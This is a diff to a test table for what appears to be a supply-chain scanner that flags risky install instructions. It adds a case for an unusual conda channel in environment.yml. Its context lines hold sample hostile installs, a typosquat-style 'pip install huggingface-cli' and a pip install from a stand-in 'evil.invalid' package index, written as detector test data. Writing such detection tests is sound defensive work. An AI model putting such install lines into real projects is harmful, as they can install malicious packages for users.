@@ -212,6 +212,8 @@ const FORMS: [string, Files, Expect, Files, Expect][] = [
     { 'README.md': '```bash\nconda install -c conda-forge -c pytorch faiss-cpu pytorch -y\nmamba install conda-forge::numpy\n```\n' }, 'quiet'],
   ['conda channel pinned in the package spec', { 'README.md': '```bash\nmamba install chemner-forge::chemtok\n```\n' }, ['instructions.git-install', 'high'],
     { 'README.md': '```bash\nconda install --channel=nvidia cuda-toolkit\n```\n' }, 'quiet'],
+  ['environment.yml channels', { 'environment.yml': 'name: ner\nchannels:\n  - chemner-forge\n  - conda-forge\ndependencies:\n  - python=3.11\n  - chemtok\n' }, ['requirements.index-url', 'high', 'environment.yml'],
+    { 'environment.yml': 'name: ner\nchannels:\n  - pytorch\n  - nvidia\n  - conda-forge/label/cf202003\n  - https://conda.anaconda.org/conda-forge\ndependencies:\n  - pytorch\n  - pip:\n    - transformers\n' }, 'quiet'],
   ['pip install of a command name (huggingface-cli)', { 'README.md': '```bash\npip install huggingface-cli transformers\n```\n' }, ['instructions.typosquat', 'critical'],
     { 'README.md': '```bash\npip install -U "huggingface_hub[cli]" transformers\n```\n' }, 'quiet'],
   ['pip install from a foreign index', { 'README.md': '```sh\npip install --index-url https://pkgs.evil.invalid/simple tokenizers\n```\n' }, ['instructions.git-install', 'high'],
